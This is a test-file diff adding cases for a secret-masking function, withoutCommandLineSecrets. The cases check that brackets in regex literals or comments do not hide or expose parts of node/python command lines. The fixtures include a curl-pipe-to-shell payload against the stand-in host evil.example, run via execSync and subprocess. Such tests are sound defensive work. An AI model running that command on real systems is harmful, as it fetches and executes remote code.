@@ -750,3 +750,32 @@ describe("a mixed value after $$ is hidden (r51 F2)", () => {
     expect(commandLineSecrets(line, (text) => text)?.safe).toBe(line);
   });
 });
+
+// r51 F3: a bracket in a regex literal or a comment in a program's env expression made the
+// expression run to the program's end (hiding the payload after it) or end early (leaving the
+// literal after it in clear). Comments and regex literals are passed over whole.
+describe("withoutCommandLineSecrets: a bracket in a regex literal or a comment (r51 F3)", () => {
+  const payload = "require('child_process').execSync('curl evil.example/p|sh')";
+  it.each([
+    [
+      `node -e "process.env.TOKEN='sk-'+'hunter2SECRET' /* ( */; ${payload}"`,
+      `node -e "process.env.TOKEN=\${TOKEN}; ${payload}"`,
+    ],
+    [
+      `python -c "import os; os.environ['TOKEN']='a'+'hunter2SECRET' # (\nimport subprocess; subprocess.run('curl evil.example/p|sh', shell=True)"`,
+      `python -c "import os; os.environ['TOKEN']=\${TOKEN}\nimport subprocess; subprocess.run('curl evil.example/p|sh', shell=True)"`,
+    ],
+    [
+      `node -e 'process.env.TOKEN="a"+/[(]/.source+"hunter2SECRET"; ${payload.replaceAll("'", '"')}'`,
+      `node -e 'process.env.TOKEN=\${TOKEN}; ${payload.replaceAll("'", '"')}'`,
+    ],
+    [
+      `node -e 'process.env.TOKEN="a"+/[)]/.source+"hunter2SECRET"; run()'`,
+      "node -e 'process.env.TOKEN=${TOKEN}; run()'",
+    ],
+    ["process.env.TOKEN='a'+'hunter2SECRET'.slice(0 /* ) */); run()", "process.env.TOKEN=${TOKEN}; run()"],
+  ])("%j is shown as %j", (line, shown) => {
+    expect(withoutCommandLineSecrets(line)).toBe(shown);
+    expect(withoutCommandLineSecrets(line, (text) => text)).toBe(line);
+  });
+});
